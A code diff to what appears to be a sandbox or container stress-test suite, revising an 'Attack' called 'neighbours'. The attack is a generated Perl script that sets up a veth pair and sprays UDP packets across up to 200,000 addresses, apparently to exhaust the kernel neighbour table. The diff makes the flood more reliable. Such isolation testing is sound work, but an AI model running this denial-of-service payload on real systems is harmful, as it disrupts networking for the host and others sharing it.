@@ -8,6 +8,6 @@ export const neighbours: Attack = {
   program: (
     scale,
   ) => `use Socket; system("ip link add d0 type veth peer name d1 && ip addr add 10.200.0.1/14 dev d0 && ip link set d0 up && ip link set d1 up");
-    socket($c, 2, 2, 0); for (1 .. ${scale === 'full' ? 200_000 : 3000}) {
-    send($c, "x", 0, sockaddr_in(9, pack("N", 0x0ac80002 + $_))); $n++ } ${HOLD}`,
+    for (1 .. ${scale === 'full' ? 200_000 : 3000}) { if ($_ % 100 == 1) { my $s; socket($s, 2, 2, 0) or last; push @s, $c = $s }
+    send($c, "x", MSG_DONTWAIT, sockaddr_in(9, pack("N", 0x0ac80002 + $_))); $n++ } ${HOLD}`,
 };
